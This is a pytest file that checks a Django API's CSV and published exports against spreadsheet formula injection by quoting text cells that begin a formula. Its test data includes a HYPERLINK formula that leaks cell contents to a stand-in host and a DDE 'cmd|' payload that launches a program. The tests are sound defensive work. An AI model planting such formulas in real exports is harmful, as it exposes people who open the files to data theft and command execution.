"""CSV injection: a text cell that a spreadsheet would run as a formula (it
begins with =, +, -, @, a tab or a carriage return) is written with a single
quote before it, in the API's CSV and in the published exports alike; which
cells are text is the column's type, so numbers and dates are never changed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.management import call_command

from records.api.claim_parts import Citations
from records.api.csv_columns import csv_columns
from records.api.csv_export import csv_bytes
from records.api.readspec import Field, Fuzzy, Ref, Spec
from records.api.refs import PERSON_REF
from records.models import Candidacy, Citation, Person, Posting

API = "/api/v1"
LISTS = ("persons", "postings")
HYPERLINK = '=HYPERLINK("https://example.invalid/?leak="&A1,"Asim Arun")'
# One of each start a spreadsheet runs; the quote before it is all that changes.
FORMULAS = [HYPERLINK, "+91 98765 43210", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]

PROBE = Spec(
    Candidacy,
    "CsvInjectionProbe",
    [Field("id"), Ref("person", PERSON_REF), Field("ballot_name"), Field("votes"), Fuzzy("start"), Citations()],
)


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def written(spec: Spec, records: list[dict]) -> list[dict]:
    return rows_of(b"".join(csv_bytes(csv_columns(spec), iter([records]))).decode())


def probe_record(text: str, number: int) -> dict:
    return {
        "id": number,
        "person": {"id": number, "slug": "someone", "name": text},
        "ballot_name": text,
        "votes": number,
        "start": {"value": "2021-03", "earliest": "2021-03-01", "latest": "2021-03-31"},
        "citations": [{"source_slug": "002_abc", "published_on": "2022-01-10", "quote": text, "locator": ""}],
    }


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_begins_a_formula_starts_with_a_quote(text):
    [row] = written(PROBE, [probe_record(text, 7)])
    assert (row["person_name"], row["ballot_name"], row["citation_quote"]) == (f"'{text}",) * 3


def test_numbers_and_dates_are_written_as_they_are_even_when_negative():
    [row] = written(PROBE, [probe_record("-3", -3)])
    assert (row["id"], row["person_id"], row["votes"]) == ("-3", "-3", "-3")  # numbers by their type
    assert row["ballot_name"] == "'-3"  # the same characters in a text column are text
    dates = (row["start"], row["start_earliest"], row["citation_published_on"])
    assert dates == ("2021-03", "2021-03-01", "2022-01-10")


def test_text_that_holds_a_formula_character_elsewhere_is_unchanged():
    [row] = written(PROBE, [probe_record("Asim Arun = IPS-1994 @ Kanpur", 1)])
    assert row["person_name"] == "Asim Arun = IPS-1994 @ Kanpur"


@pytest.fixture
def planted(seeded):
    """A person named as a formula, another whose social group is one, and a
    posting whose role and first quote are."""
    person = Person.objects.get(slug="asim-arun")
    Person.objects.filter(pk=person.pk).update(name=HYPERLINK, social_group="@SUM(1+1)")
    posting = Posting.objects.filter(person=person).order_by("id").first()
    Posting.objects.filter(pk=posting.pk).update(role="+91 98765 43210")
    source = Citation.objects.filter(content_type=ContentType.objects.get_for_model(Posting)).first().source
    Citation.objects.filter(content_type=ContentType.objects.get_for_model(Posting), object_id=posting.pk).delete()
    Citation.objects.create(
        source=source,
        content_type=ContentType.objects.get_for_model(Posting),
        object_id=posting.pk,
        quote="-2+3+cmd|' /C calc'!A0",
        start=0,
        end=22,
    )
    return person, posting


def check_planted(persons: list[dict], postings: list[dict], person: Person, posting: Posting) -> None:
    [person_row] = [row for row in persons if row["id"] == str(person.pk)]
    assert (person_row["name"], person_row["social_group"]) == (f"'{HYPERLINK}", "'@SUM(1+1)")
    assert person_row["birth_date_earliest"] == (str(person.birth_date_earliest or ""))
    [posting_row] = [row for row in postings if row["id"] == str(posting.pk)]
    assert (posting_row["role"], posting_row["citation_quote"]) == ("'+91 98765 43210", "'-2+3+cmd|' /C calc'!A0")
    assert posting_row["person_name"] == f"'{HYPERLINK}"
    untouched = [row["name"] for row in persons if row["id"] != str(person.pk)]
    assert untouched
    assert not any(name.startswith("'") for name in untouched)


def test_the_api_csv_neutralises_formulas(planted, client):
    person, posting = planted
    exported = {}
    for resource in LISTS:
        response = client.get(f"{API}/{resource}/", {"format": "csv"})
        assert response.status_code == 200
        exported[resource] = rows_of(b"".join(response.streaming_content).decode())
    check_planted(exported["persons"], exported["postings"], person, posting)
    # The JSON is the data as stored: the quote is only the CSV's.
    assert client.get(f"{API}/persons/{person.slug}/").json()["name"] == HYPERLINK


def test_the_published_csv_files_neutralise_formulas(planted, tmp_path):
    person, posting = planted
    call_command("publish_exports", str(tmp_path), "--date", "2026-12-05", verbosity=0)
    release = Path(tmp_path) / "latest"
    persons, postings = (rows_of((release / f"{name}.csv").read_text(encoding="utf-8")) for name in LISTS)
    check_planted(persons, postings, person, posting)
    assert "starts with a single quote" in (release / "README.md").read_text(encoding="utf-8")  # and says so
